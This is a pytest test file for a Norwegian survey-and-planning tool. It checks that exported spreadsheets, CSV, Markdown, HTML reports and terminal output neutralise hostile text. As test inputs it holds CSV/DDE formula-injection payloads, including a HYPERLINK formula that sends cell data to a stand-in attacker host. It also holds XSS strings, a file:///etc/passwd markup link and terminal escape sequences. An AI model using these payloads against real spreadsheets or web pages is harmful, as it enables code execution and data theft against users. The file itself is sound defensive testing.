"""Text stays text: a project whose every text starts with `=`, `+`, `-` or `@`, or holds markup, runs through every
output without becoming a formula, a link, HTML or terminal markup; control characters never crash a writer."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from attack_helpers import hkh, sound_project
from openpyxl import load_workbook

from hkh.survey.synthetic import SynthQuestion, SynthSurvey, export_tables, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://angriper.example/?q="&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def q(text: str) -> str:
    """A YAML single-quoted scalar (quotes inside doubled)."""
    return "'" + text.replace("'", "''") + "'"


def formula_project(root: Path) -> Path:
    """Every text a team writes starts like a formula, and so do the survey's question text and labels."""
    f = [q(text) for text in FORMULAS]
    hkh_yaml = f"title: {f[0]}\narea: {f[2]}\nlanguage: nb\nparties: [{f[4]}, Politiet]\n"
    sources = (
        f"sources:\n  - id: intervju\n    method: target_interview\n    title: {f[1]}\n"
        f"  - id: felt\n    method: field_reports\n    title: {f[3]}\n"
        "  - id: s\n    method: survey\n    title: '=Spørreundersøkelse'\n"
    )
    efforts = (
        f"efforts:\n  - id: kafe\n    organisation: {f[4]}\n    name: {f[5]}\n    offers: ['=mat']\n"
        f"    opening_hours: 'Mo-Fr 20:00-24:00'\n    description: {f[0]}\n    capacity: {f[1]}\n"
        "    over_capacity: true\n    sources: [intervju]\n"
    )
    findings = (
        f"findings:\n  - id: f1\n    title: {f[0]}\n    statement: {f[1]}\n    evidence:\n"
        f"      - source: intervju\n        says: {f[2]}\n        quote: {f[3]}\n        role: {f[4]}\n"
        f"      - source: felt\n        says: {f[5]}\n"
        "      - source: s\n        question: q1\n        option: 1\n        says: '=tall'\n"
        f"    needs:\n      - offer: '=mat'\n        when: 'Mo-Su 00:00-24:00'\n        who: {f[2]}\n        text: {f[3]}\n"
        f"  - id: f2\n    statement: {f[5]}\n    evidence: [{{source: intervju}}]\n"
    )
    plan = (
        f"goals:\n  - text: {f[0]}\n    measures:\n      - text: {f[1]}\n        responsible: {f[4]}\n"
        f"        timing: {f[3]}\n        addresses: [f1]\n      - text: {f[2]}\n        responsible: Politiet\n"
        f"        addresses: [f1]\nfollow_up:\n  - finding: f2\n    text: {f[5]}\n"
    )
    root = sound_project(root, hkh_yaml=hkh_yaml, sources_yaml=sources, efforts_yaml=efforts, findings_yaml=findings, plan_yaml=plan)
    questions = [
        SynthQuestion("q1", "single", "=HYPERLINK(\"x\")", [(1, "=1+1"), (2, "+Ja"), (3, "-Nei"), (4, "@SUM(A1)")]),
        SynthQuestion("q2", "grid", "+Rutenett", [(1, "=Enig"), (2, "-Uenig")], items=[("q2_1", "=Påstand"), ("q2_2", "@Påstand")]),
        SynthQuestion("q3", "open", "=Fritekst"),
    ]
    answers = [{"q1": 1 + i % 4, "q2_1": 1 + i % 2, "q2_2": 1 + (i // 2) % 2, "q3": "=cmd|' /C calc'!A0"} for i in range(60)]
    export = write_xlsx(export_tables(SynthSurvey(questions, answers, [4] * 60)), root.parent / "eksport.xlsx")
    result = hkh("import", export, "-p", root, "-s", "s")
    assert result.exit_code == 0, result.output
    return root


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = formula_project(tmp_path_factory.mktemp("formulas") / "p")
    result = hkh("run", "-p", root)
    assert result.exit_code == 0, result.output
    return root


def test_no_workbook_holds_a_formula_hkh_did_not_write(ran: Path) -> None:
    workbooks = sorted((ran / "out").rglob("*.xlsx"))
    assert len(workbooks) >= 4
    texts_like_formulas = 0
    for path in workbooks:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), f"{path.name}!{name}"
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str) and cell.value.lstrip()[:1] in ("=", "+", "-", "@"):
                        texts_like_formulas += 1
                        assert cell.quotePrefix, f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}"
    assert texts_like_formulas > 20  # the texts are there, as text


def test_the_plan_csv_neutralises_every_formula(tmp_path: Path, ran: Path) -> None:
    assert hkh("plan", "-p", ran, "--format", "csv").exit_code == 0
    text = (ran / "out" / "action-plan.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'" + FORMULAS[1] in cells and "'" + FORMULAS[4] in cells and "'" + FORMULAS[3] in cells
    assert all(line.startswith('"') for line in text.splitlines() if line)  # every field quoted


def test_the_plan_markdown_escapes_markup_and_html(tmp_path: Path) -> None:
    plan = (
        "goals:\n  - text: \"[klikk](javascript:alert(1)) <script>alert(1)</script>\"\n    measures:\n"
        "      - text: \"| kolonne | ![bilde](http://x/y.png) **fet** `kode` &lt;\"\n        responsible: Politiet\n"
        "        addresses: [f1]\n"
    )
    root = sound_project(tmp_path / "p", plan_yaml=plan)
    assert hkh("plan", "-p", root, "--format", "md").exit_code == 0
    text = (root / "out" / "action-plan.md").read_text("utf-8")
    # nothing unescaped that Markdown would read: no link, image, emphasis, code, HTML or entity
    assert not re.search(r"(?<!\\)\]\(", text) and not re.search(r"(?<!\\)<(?!br>)", text)
    assert not re.search(r"(?<!\\)\*\*", text) and not re.search(r"(?<!\\)`", text) and not re.search(r"(?<!\\)&", text)
    assert "\\<script\\>" in text and "\\[klikk\\]" in text and "\\&lt;" in text
    table_rows = [line for line in text.splitlines() if line.startswith("|") and "---" not in line]
    assert all(len(re.findall(r"(?<!\\)\|", line)) == len(re.findall(r"(?<!\\)\|", table_rows[0])) for line in table_rows)


def test_the_html_report_escapes_text_and_attributes(tmp_path: Path) -> None:
    findings = (
        "findings:\n  - id: f1\n    title: \"<script>alert('x')</script>\"\n"
        "    statement: \"\\\"><img src=x onerror=alert(1)>\"\n    evidence:\n"
        "      - source: intervju\n        quote: \"</blockquote><iframe src=//x>\"\n        role: \"' onmouseover='alert(1)\"\n"
    )
    root = sound_project(tmp_path / "p", findings_yaml=findings)
    assert hkh("report", "-p", root).exit_code == 0
    html = (root / "out" / "report.html").read_text("utf-8")
    for raw in ("<script>alert", "<img src=x", "<iframe", "onmouseover='alert"):
        assert raw not in html, raw
    assert "&lt;script&gt;" in html and "&lt;iframe" in html and "&#39; onmouseover=&#39;alert(1)" in html


def test_rich_markup_in_texts_is_shown_as_written(tmp_path: Path) -> None:
    findings = "findings:\n  - id: f1\n    title: \"[bold red]Alarm[/] [link=file:///etc/passwd]klikk[/link]\"\n    statement: s\n    evidence: [{source: intervju}, {source: feltarbeid}]\n"
    hkh_yaml = "title: \"[blink]Kartlegging[/blink]\"\nlanguage: nb\nparties: [Politiet, Kommunen]\n"
    root = sound_project(tmp_path / "p", findings_yaml=findings, hkh_yaml=hkh_yaml)
    triangulated = hkh("triangulate", "-p", root)
    assert triangulated.exit_code == 0 and "[bold red]Alarm[/]" in triangulated.stdout and "\x1b]8;" not in triangulated.stdout
    status = hkh("status", "-p", root)
    assert status.exit_code == 0 and "[blink]Kartlegging[/blink]" in status.stdout


CHARACTERS = ["\x1b", "\x00", "\x0b", "\x9b", "\u202e", "\ud800", "\x07", "\x7f"]


def test_a_control_character_never_crashes_a_writer(tmp_path: Path) -> None:
    """`hkh check` refuses control characters in the team's files; a text that reaches a writer anyway (from a
    library caller, a hand-edited codebook) is cleaned there, never an internal error. One measure per character."""
    from dataclasses import replace

    from hkh.analysis.results import Results
    from hkh.outputs.write import write_plan, write_report
    from hkh.project.load import load_project

    root = sound_project(tmp_path / "p")
    project = load_project(root)
    goal = project.plan.goals[0]
    measures = [goal.measures[0].model_copy(update={"text": f"Natt{c}patrulje{i}"}) for i, c in enumerate(CHARACTERS)]
    plan = project.plan.model_copy(update={"goals": [goal.model_copy(update={"text": "Mål\x1b[2J", "measures": measures})]})
    finding = project.findings.findings[0].model_copy(update={"title": "Tittel\x1b]0;x\x07", "statement": "Utsagn\u202e"})
    findings = project.findings.model_copy(update={"findings": [finding]})
    results = Results(replace(project, plan=plan, findings=findings), "nb")
    written = [write_plan(results, fmt) for fmt in ("xlsx", "md", "csv")]
    written += [write_report(results, fmt) for fmt in ("html", "docx")]
    for path in written:
        data = path.read_bytes()
        if path.suffix in (".xlsx", ".docx"):
            with zipfile.ZipFile(path) as archive:
                data = b"".join(archive.read(name) for name in archive.namelist())
        assert b"patrulje0" in data or b"patrulje" in data, path.name
        for index, character in enumerate(CHARACTERS):
            raw = character.encode("utf-8", "surrogatepass")
            assert b"Natt" + raw + b"patrulje" not in data, (path.name, index)


def test_dollar_signs_in_chart_labels_are_text_not_mathtext(tmp_path: Path) -> None:
    questions = [SynthQuestion("q1", "single", "$\\frac{a}{b}$ kostnad", [(1, "$5 og $10"), (2, "$\\sqrt{x}$"), (3, "${}^{-}$")])]
    answers = [{"q1": 1 + i % 3} for i in range(60)]
    root = sound_project(tmp_path / "p")
    export = write_xlsx(export_tables(SynthSurvey(questions, answers, [4] * 60)), tmp_path / "e.xlsx")
    assert hkh("import", export, "-p", root, "-s", "s").exit_code == 0
    result = hkh("survey", "-p", root, "--charts", "all")
    assert result.exit_code == 0, result.output
    assert list((root / "out").rglob("*.png"))
